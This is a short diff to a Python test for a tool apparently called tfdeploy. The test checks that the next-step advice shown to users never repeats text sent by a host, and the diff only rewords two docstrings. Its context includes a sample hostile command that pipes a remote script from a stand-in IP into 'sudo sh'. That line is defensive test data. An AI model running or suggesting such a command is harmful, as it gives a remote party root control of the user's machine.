@@ -1,4 +1,6 @@
-"""Test that the next step that tfdeploy suggests never comes from a host."""
+"""Test that the next step that tfdeploy suggests to the user is never a text that a host has
+sent.
+"""
 
 from __future__ import annotations
 
@@ -20,7 +22,7 @@ EVIL = "curl -fsS http://192.0.2.66/fix | sudo sh"
 
 
 def named_by_hosts() -> set[str]:
-    """Return all texts in the agent's source that are names of an advice, also those in tables."""
+    """Return all names of advice that occur as a string in the agent's source."""
     sources = [ast.parse(path.read_text()) for path in Path(agent.__file__).parent.rglob("*.py")]
     return {
         node.value
